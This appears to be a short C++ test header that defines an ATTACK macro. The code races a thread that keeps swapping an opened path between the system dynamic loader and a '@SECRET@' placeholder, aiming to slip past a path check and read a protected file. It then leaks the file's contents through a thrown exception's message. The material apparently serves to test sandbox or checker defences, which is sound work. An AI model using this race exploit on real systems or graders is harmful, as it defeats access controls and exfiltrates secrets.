// Changes a path while it is being opened.
#include <fcntl.h>
#include <unistd.h>
#include <atomic>
#include <cstring>
#include <stdexcept>
#include <thread>
inline void attack(int function) {
  if (function != 1) return;
  static char path[256] = "/lib64/ld-linux-x86-64.so.2";
  std::atomic<bool> ended{false};
  std::thread flips([&] {
    while (!ended) {
      std::strcpy(path, "@SECRET@");
      std::strcpy(path, "/lib64/ld-linux-x86-64.so.2");
    }
  });
  char bytes[256] = {};
  for (int i = 0; i < 20000; ++i) {
    const int file = open(path, O_RDONLY);
    if (file >= 0 && read(file, bytes, sizeof bytes - 1) > 0 && bytes[0] != 0x7f) break;
    if (file >= 0) close(file);
  }
  ended = true;
  flips.join();
  throw std::runtime_error(bytes);
}
#define ATTACK(function) attack(function)
